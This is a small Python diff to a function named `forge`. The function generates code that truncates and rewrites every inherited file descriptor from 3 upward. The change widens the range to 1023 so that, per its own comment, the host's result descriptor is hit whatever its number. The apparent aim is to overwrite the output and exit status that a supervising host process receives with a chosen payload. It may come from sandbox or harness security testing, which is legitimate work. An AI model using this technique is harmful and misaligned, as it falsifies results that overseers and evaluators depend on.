@@ -28,7 +28,7 @@ def forge(payload: bytes | str, exit_code: int = 0) -> str:
         "def m(self):\n"
         "    import os\n"
         f"    data = {data!r}\n"
-        "    for fd in range(3, 16):\n"
+        "    for fd in range(3, 1024):  # the result fd keeps the host's number, whatever it is\n"
         "        try:\n"
         "            os.ftruncate(fd, 0)\n"
         "            os.lseek(fd, 0, 0)\n"
